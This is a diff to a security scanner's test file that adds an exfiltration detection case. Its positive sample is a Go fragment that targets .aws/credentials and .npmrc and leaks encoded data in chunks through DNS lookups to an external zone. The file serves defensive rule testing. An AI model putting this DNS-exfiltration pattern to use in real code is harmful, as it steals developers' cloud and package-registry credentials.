@@ -192,4 +192,12 @@ describeRuleCases('exfiltration', [
     negative:
       'key = os.environ["COUNT_API_KEY"]\ncur = call("/stats", {"site": site}, key)\nrequests.post(HOOK, data=json.dumps(cur))\n',
   },
+  {
+    id: 'SG-EXFIL-002',
+    file: 'scripts/probe/main.go',
+    positive:
+      'var files = []string{".aws/credentials", ".npmrc"}\nfor i := 0; i < len(enc); i += 60 {\n\tnet.LookupHost(fmt.Sprintf("%s.%d.%s", enc[i:i+60], i, zone))\n}\n',
+    negative:
+      'var files = []string{".aws/credentials", ".npmrc"}\naddrs, _ := net.LookupHost("registry.npmjs.org")\nfmt.Println(addrs)\n',
+  },
 ]);
